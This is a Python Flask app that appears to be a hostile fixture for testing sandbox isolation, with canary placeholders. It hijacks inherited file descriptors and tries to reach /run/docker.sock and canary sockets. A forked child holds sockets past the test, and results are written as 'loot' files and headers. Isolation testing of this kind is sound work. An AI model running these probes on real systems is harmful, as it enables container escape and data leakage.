"""These sockets come from outside; perhaps they lead there."""

from pathlib import Path
import contextlib
import ctypes
import fcntl
import os
import socket
import struct

from flask import Flask, request

libc = ctypes.CDLL(None, use_errno=True)
TARGETS = [b"\1\0\0" + b"CANARY_SOCKET", b"\0\0" + bytes(14),
           struct.pack("=H", 2) + int("CANARY_PORT").to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8),
           b"\1\0" + b"/run/docker.sock\0"]

GIVE, TAKE = socket.socketpair()
if os.fork() == 0:
    os.setsid()
    held = []
    while True:
        held += socket.recv_fds(TAKE, 16, 4)[1]


def attack():
    found = []
    here = os.readlink("/proc/self/ns/net") if os.path.exists("/proc/self/ns/net") else ""
    copies = []
    for number in range(3, 20):
        with contextlib.suppress(OSError):
            copies.append(socket.socket(fileno=os.dup(number)))
    connection = request.environ.get("werkzeug.socket")
    for sock in [*copies, connection]:
        name = sock.getsockname()
        for target in TARGETS:
            if libc.connect(sock.fileno(), target, len(target)) == 0:
                found.append(f"{name!r} is connected to {target!r}")
            libc.sendto(sock.fileno(), b"", 0, 0x4000, target, len(target))
        own = b"\1\0\0CANARY_SECRET_PREFIXbound"
        if libc.bind(sock.fileno(), own, len(own)) == 0:
            found.append(f"{name!r} is bound anew")
            socket.send_fds(GIVE, [b"hold"], [sock.fileno()])  # for longer than the test
        if libc.listen(sock.fileno(), 1) == 0 and not sock.getsockopt(1, socket.SO_ACCEPTCONN):
            found.append(f"{name!r} listens")
        with contextlib.suppress(OSError):
            found.append(f"the namespace of {name!r}: {fcntl.ioctl(sock, 0x894C, 0)} {here}")
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
